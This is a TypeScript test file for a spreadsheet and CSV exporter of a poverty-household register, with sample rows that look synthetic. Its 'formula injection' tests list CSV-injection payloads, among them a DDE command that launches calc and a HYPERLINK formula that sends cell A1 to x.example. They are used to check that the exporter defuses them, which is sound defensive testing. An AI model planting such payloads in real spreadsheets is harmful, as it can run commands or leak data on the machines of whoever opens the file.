import { once } from 'node:events';
import { createWriteStream, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { syntheticRows } from './fixtures.ts';
import { COLUMN_IDS, COLUMNS, type ColumnId } from './headers.ts';
import { readRows, type SheetRow } from './read.ts';
import { type RegisterRow, writeErrorReport, writeRegisterCsv, writeRegisterXlsx } from './write.ts';

const dir = mkdtempSync(path.join(os.tmpdir(), 'fupin-interchange-write-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const file = (name: string) => path.join(dir, name);

async function readBack(p: string) {
  const reader = readRows({ path: p });
  const header = await reader.header();
  const rows: SheetRow[] = [];
  for await (const r of reader) rows.push(r);
  return { header, rows };
}

/** What the reader should give for a written row: the non-empty cells; CSV turns everything into text. */
function expected(row: RegisterRow, asText: boolean) {
  const out: Partial<Record<ColumnId, unknown>> = {};
  for (const id of COLUMN_IDS) {
    const v = row[id];
    if (v === null || v === undefined || v === '') continue;
    out[id] = asText ? String(v) : v;
  }
  return out;
}

const SAMPLE: RegisterRow[] = [
  {
    city: '朝阳市',
    county: '北票市',
    township: '台吉镇',
    village: '海丰村',
    village_code: '211381100200',
    household_no: '0211381000001',
    name: '张三',
    id_number: '211381199001011234',
    relation: '户主',
    gender: '男',
    ethnicity: '蒙古族',
    education: '初中',
    schooling: '',
    health: '健康',
    labour_skill: '普通劳动力',
    work_status: '乡(镇)外县内务工',
    medical_insurance: '是',
    category: '低保贫困户',
    poverty_cause: '因病',
    year_identified: 2016,
    planned_exit_year: 2018,
    exit_year: null,
    household_status: '未脱贫',
    income_per_capita: 3520.5,
    helper: '李干部',
    phone: '013800000000',
  },
  { household_no: '0211381000001', name: '王"小"五, 二', id_number: '21138120100101123X', relation: '之子', phone: undefined },
];

describe('writeRegisterXlsx', () => {
  it('writes a title, a bold frozen header and text-formatted ID columns (checked with exceljs itself)', async () => {
    await writeRegisterXlsx(file('reg.xlsx'), SAMPLE, { lang: 'zh-CN', title: '北票市建档立卡贫困人口花名册' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file('reg.xlsx'));
    const ws = wb.worksheets[0];
    expect(ws.name).toBe('花名册');
    expect(ws.getCell('A1').value).toBe('北票市建档立卡贫困人口花名册');
    expect(ws.getCell('A1').isMerged && ws.getCell('Z1').isMerged).toBe(true);
    expect((ws.getRow(2).values as unknown[]).slice(1)).toEqual(COLUMNS.map((c) => c.zh));
    expect(ws.getCell('A2').font?.bold).toBe(true);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
    const id = ws.getCell('H3');
    expect(id.value).toBe('211381199001011234');
    expect(id.numFmt).toBe('@');
    expect(ws.getCell('Z3').value).toBe('013800000000');
    expect(ws.getCell('Z3').numFmt).toBe('@');
    expect(ws.getCell('T3').value).toBe(2016);
    expect(ws.getColumn(8).width).toBeGreaterThanOrEqual(18);
  });

  it('round-trips through the reader: same cells, numbers stay numbers', async () => {
    const { header, rows } = await readBack(file('reg.xlsx'));
    expect(header.headerRowNumber).toBe(2);
    expect(header.missingColumns).toEqual([]);
    expect(rows.map((r) => r.rowNumber)).toEqual([3, 4]);
    expect(rows.map((r) => r.cells)).toEqual(SAMPLE.map((r) => expected(r, false)));
  });

  it('writes English headers that the reader understands, to a stream', async () => {
    const out = createWriteStream(file('reg-en.xlsx'));
    await writeRegisterXlsx(out, SAMPLE, { lang: 'en' });
    if (!out.closed) await once(out, 'close');
    const { header, rows } = await readBack(file('reg-en.xlsx'));
    expect(header.headerRowNumber).toBe(1);
    expect(header.header[7]).toBe('ID number');
    expect(rows.map((r) => r.cells)).toEqual(SAMPLE.map((r) => expected(r, false)));
  });

  it('fails, instead of waiting forever, when the output is closed midway (a download given up)', async () => {
    let received = 0;
    const out = new Writable({
      write(chunk: Buffer, _encoding, callback) {
        received += chunk.length;
        if (received > 50_000) this.destroy();
        else callback();
      },
    });
    await expect(writeRegisterXlsx(out, syntheticRows(30_000), { lang: 'zh-CN' })).rejects.toThrow(/closed/);
  }, 120_000);

  it('round-trips a thousand synthetic rows, from an async iterable', async () => {
    const source = [...syntheticRows(1000, 7)];
    async function* rows() {
      yield* source;
    }
    await writeRegisterXlsx(file('many.xlsx'), rows(), { lang: 'zh-CN', useSharedStrings: true });
    const back = await readBack(file('many.xlsx'));
    expect(back.rows.map((r) => r.cells)).toEqual(source.map((r) => expected(r, false)));
  });
});

describe('writeRegisterCsv', () => {
  it('writes UTF-8 with a BOM and CRLF, and round-trips through the reader as text', async () => {
    await writeRegisterCsv(file('reg.csv'), SAMPLE, { lang: 'zh-CN' });
    const bytes = readFileSync(file('reg.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.split('\r\n')[0]).toBe(COLUMNS.map((c) => c.zh).join(','));
    expect(text).toContain('"王""小""五, 二"');
    const { header, rows } = await readBack(file('reg.csv'));
    expect(header.encoding).toBe('utf-8-bom');
    expect(rows.map((r) => r.cells)).toEqual(SAMPLE.map((r) => expected(r, true)));
  });

  it('can write the text columns as ="…" for Excel, which the reader unwraps', async () => {
    await writeRegisterCsv(file('reg-x.csv'), SAMPLE, { lang: 'zh-CN', excelText: true });
    expect(readFileSync(file('reg-x.csv'), 'utf8')).toContain(',="211381199001011234",');
    const { rows } = await readBack(file('reg-x.csv'));
    expect(rows.map((r) => r.cells)).toEqual(SAMPLE.map((r) => expected(r, true)));
  });

  it('fails, instead of waiting forever, when the output is closed midway', async () => {
    let received = 0;
    const out = new Writable({
      highWaterMark: 1024,
      write(chunk: Buffer, _encoding, callback) {
        received += chunk.length;
        if (received > 200_000) this.destroy();
        else setTimeout(callback, 1);
      },
    });
    await expect(writeRegisterCsv(out, syntheticRows(30_000), { lang: 'zh-CN' })).rejects.toThrow(/closed/);
  });
});

/** Text a spreadsheet would run (OWASP CSV injection), text that only looks close, and numbers that must stay numbers. */
const ATTACKS = [
  "-1+cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?q="&A1,"点这里")',
  '+1+2',
  '@SUM(A1:A2)',
  "-0+HYPERLINK('x')",
  "'=quoted",
  '-',
];
const TRICKY: RegisterRow = {
  household_no: 'H1',
  name: ATTACKS[0],
  id_number: '21138119900101123X',
  relation: '户主',
  helper: ATTACKS[1],
  ethnicity: ATTACKS[2],
  education: ATTACKS[3],
  health: ATTACKS[4],
  labour_skill: ATTACKS[5],
  work_status: ATTACKS[6],
  poverty_cause: '-300',
  income_per_capita: -120.5,
  phone: '\t13800000000',
  city: '\r=1+1',
};

describe('formula injection', () => {
  it('CSV: text that Excel would run gets a leading quote; numbers, plain-number text and ID numbers do not', async () => {
    await writeRegisterCsv(file('inject.csv'), [TRICKY], { lang: 'en' });
    const line = readFileSync(file('inject.csv'), 'utf8').split('\r\n')[1];
    const fields = line.split(',');
    expect(line).toContain(`"'-1+cmd|' /C calc'!A0"`.replace(/^"|"$/g, ''));
    expect(line).toContain(`"'=HYPERLINK(""http://x.example/?q=""&A1`);
    for (const v of ["'+1+2", "'@SUM(A1:A2)", `"'-0+HYPERLINK('x')"`.replace(/"/g, ''), "''=quoted", "'-", "'\t13800000000", `"'\r=1+1"`])
      expect(line, v).toContain(v);
    expect(fields).toContain('-300');
    expect(fields).toContain('-120.5');
    expect(fields).toContain('21138119900101123X');
    // No field, once CSV quoting is taken off, starts with a character Excel runs.
    const { data } = Papa.parse<string[]>(line);
    for (const cell of data[0]) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('xlsx: the same text as plain, text-formatted string cells with the quote, never a formula; numbers stay numbers', async () => {
    await writeRegisterXlsx(file('inject.xlsx'), [TRICKY], { lang: 'en' });
    // exceljs writes a string as <c t="str"><v>…</v></c> with no <f>: a value, not a formula (read back, a formula
    // would come as { formula } instead of a string).
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file('inject.xlsx'));
    const row = wb.worksheets[0].getRow(2);
    const col = (id: ColumnId) => COLUMN_IDS.indexOf(id) + 1;
    expect(row.getCell(col('name')).value).toBe(`'${ATTACKS[0]}`);
    expect(row.getCell(col('name')).numFmt).toBe('@');
    expect(row.getCell(col('helper')).value).toBe(`'${ATTACKS[1]}`);
    expect(row.getCell(col('labour_skill')).value).toBe(`''=quoted`);
    expect(row.getCell(col('income_per_capita')).value).toBe(-120.5);
    expect(row.getCell(col('poverty_cause')).value).toBe('-300');
    expect(row.getCell(col('id_number')).value).toBe('21138119900101123X');
  });

  it('reads both files back as the original text (the round trip a clerk makes)', async () => {
    for (const name of ['inject.csv', 'inject.xlsx']) {
      const { rows } = await readBack(file(name));
      const cells = rows[0].cells;
      expect(cells.name, name).toBe(ATTACKS[0]);
      expect(cells.helper, name).toBe(ATTACKS[1]);
      expect([cells.ethnicity, cells.education, cells.health, cells.labour_skill, cells.work_status], name).toEqual(ATTACKS.slice(2));
      expect(cells.poverty_cause, name).toBe('-300');
      expect(cells.income_per_capita, name).toBe(name.endsWith('.csv') ? '-120.5' : -120.5);
      expect(cells.phone, name).toBe('\t13800000000');
    }
  });

  it('the problem report quotes such cells once, also when the file already carried the quote', async () => {
    const header = ['户编号', '证件号码', '与户主关系', '姓名', '帮扶责任人', '=1+1'];
    await writeErrorReport(
      file('inject-report.xlsx'),
      header,
      [{ raw: ['H1', '21138119900101123X', '户主', ATTACKS[0], `'${ATTACKS[1]}`, -5], reasons: ['=reason'] }],
      { lang: 'zh-CN' },
    );
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file('inject-report.xlsx'));
    const ws = wb.worksheets[0];
    expect((ws.getRow(1).values as unknown[]).slice(5)).toEqual(['帮扶责任人', "'=1+1", '错误原因']);
    expect((ws.getRow(2).values as unknown[]).slice(1)).toEqual([
      'H1',
      '21138119900101123X',
      '户主',
      `'${ATTACKS[0]}`,
      `'${ATTACKS[1]}`,
      -5,
      "'=reason",
    ]);
    const { rows } = await readBack(file('inject-report.xlsx'));
    expect([rows[0].cells.name, rows[0].cells.helper]).toEqual([ATTACKS[0], ATTACKS[1]]);
  });
});

describe('writeErrorReport', () => {
  it('writes the rows as they were plus a reason column, problems highlighted', async () => {
    const header = ['序号', '姓名', '身份证号码', '与户主关系', '户编号', '识别年度'];
    const rows = [
      { raw: [1, '张三', '211381199001011234', '户主', 'H1', 2016], reasons: [] },
      {
        raw: [2, '李四', 2.11381199001011e17, '之子', 'H1', new Date(Date.UTC(2016, 2, 1))],
        reasons: ['证件号码被 Excel 转成了数字', '识别年度格式不对'],
      },
      { raw: [3, null, '2.11381E+17'], reasons: ['缺少姓名'] },
    ];
    async function* source() {
      yield* rows;
    }
    const result = await writeErrorReport(file('report.xlsx'), header, source(), { lang: 'zh-CN' });
    expect(result).toEqual({ rows: 3, withProblems: 2 });

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file('report.xlsx'));
    const ws = wb.worksheets[0];
    expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual([...header, '错误原因']);
    expect(ws.getCell('A1').font?.bold).toBe(true);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    // Row 2 is fine: no fill, no reason.
    expect((ws.getRow(2).values as unknown[]).slice(1)).toEqual([1, '张三', '211381199001011234', '户主', 'H1', 2016]);
    expect(ws.getCell('B2').fill).toBeUndefined();
    expect(ws.getCell('G2').value).toBeNull();
    // Row 3: the values exactly as read (the number stays a number), the reasons joined, light red fill.
    expect(ws.getCell('C3').value).toBe(2.11381199001011e17);
    expect(ws.getCell('F3').value).toEqual(new Date(Date.UTC(2016, 2, 1)));
    expect(ws.getCell('G3').value).toBe('证件号码被 Excel 转成了数字；识别年度格式不对');
    for (const col of ['A', 'C', 'G'])
      expect(ws.getCell(`${col}3`).fill).toMatchObject({ pattern: 'solid', fgColor: { argb: 'FFFFC7CE' } });
    expect(ws.getCell('C4').value).toBe('2.11381E+17');
    expect(ws.getCell('B4').fill).toMatchObject({ fgColor: { argb: 'FFFFC7CE' } });
    // The recognised ID column is text-formatted, so a correction typed in Excel stays text.
    expect(ws.getCell('C2').numFmt).toBe('@');
  });

  it('reads back with the reader (the reason column is ignored as an unknown column)', async () => {
    const { header, rows } = await readBack(file('report.xlsx'));
    expect(header.ignoredColumns).toEqual(['序号', '错误原因']);
    expect(rows.map((r) => r.cells.id_number)).toEqual(['211381199001011234', 2.11381199001011e17, '2.11381E+17']);
  });

  it('writes English', async () => {
    await writeErrorReport(file('report-en.xlsx'), ['Name', 'ID number'], [{ raw: ['x', '1'], reasons: ['bad ID', 'no relation'] }], {
      lang: 'en',
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file('report-en.xlsx'));
    const ws = wb.worksheets[0];
    expect(ws.getCell('C1').value).toBe('Problems');
    expect(ws.getCell('C2').value).toBe('bad ID; no relation');
  });
});
